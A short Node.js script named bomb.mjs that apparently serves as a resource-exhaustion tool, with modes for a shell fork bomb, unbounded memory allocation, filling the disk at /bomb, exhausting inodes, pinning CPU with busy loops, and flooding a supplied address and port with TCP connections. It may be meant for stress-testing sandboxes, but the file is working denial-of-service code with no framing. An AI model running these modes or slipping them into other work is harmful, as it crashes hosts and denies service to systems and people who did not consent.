// bomb.mjs fork|memory|disk|inodes|cpu|flood [address port]: takes as much as it gets, for as long as it lives.
import { spawn } from 'node:child_process';
import { closeSync, openSync, writeSync } from 'node:fs';
import { connect } from 'node:net';

const [kind, address, port] = process.argv.slice(2);

const bombs = {
  fork() {
    const burst = () => spawn('sh', ['-c', ':(){ :|:& };:'], { stdio: 'ignore' }).on('error', () => {});
    setInterval(burst, 20);
  },
  memory() {
    const held = [];
    setInterval(() => held.push(Buffer.alloc(32 * 1024 * 1024, 1)), 1);
  },
  disk() {
    const bytes = Buffer.alloc(4 * 1024 * 1024, 1);
    const file = openSync('/bomb', 'w');
    setInterval(() => {
      try {
        writeSync(file, bytes);
      } catch (error) {
        console.log(error.code);
        process.exit(0);
      }
    }, 0);
  },
  inodes() {
    let count = 0;
    setInterval(() => {
      for (const until = count + 200; count < until; count += 1) closeSync(openSync(`/bomb-${count}`, 'w'));
    }, 0);
  },
  cpu() {
    for (let index = 0; index < 16; index += 1) spawn('sh', ['-c', 'while :; do :; done'], { stdio: 'ignore' });
    setInterval(() => {}, 1_000);
  },
  flood() {
    const open = () => {
      const socket = connect(Number(port), address);
      socket.on('connect', () => socket.end(`GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`));
      socket.on('error', () => {}).on('close', () => setImmediate(open));
      socket.resume();
    };
    for (let index = 0; index < 64; index += 1) open();
  },
};

bombs[kind]();
